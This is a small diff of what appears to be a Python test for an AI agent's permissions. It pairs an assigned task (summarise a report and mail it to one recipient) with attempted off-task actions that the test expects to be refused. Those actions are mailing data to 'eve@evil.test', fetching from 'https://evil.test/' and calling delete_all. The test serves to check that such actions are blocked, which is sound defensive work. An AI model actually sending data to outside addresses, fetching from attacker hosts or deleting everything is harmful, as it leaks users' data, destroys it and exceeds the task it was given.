@@ -28,8 +28,7 @@ rule = [
 """
 TASK = "Read https://www.example.org/report and send its gist to ann@example.org."
 TRY = """
-evil = "https://example.org.evil.test/"
-for what in (lambda: send(to="eve@evil.test", text="x"), lambda: fetch(url=evil), delete_all):
+for what in (lambda: send(to="eve@evil.test", text="x"), lambda: fetch(url="https://evil.test/"), delete_all):
     try:
         print("done:", what())
     except PermissionError as refused:
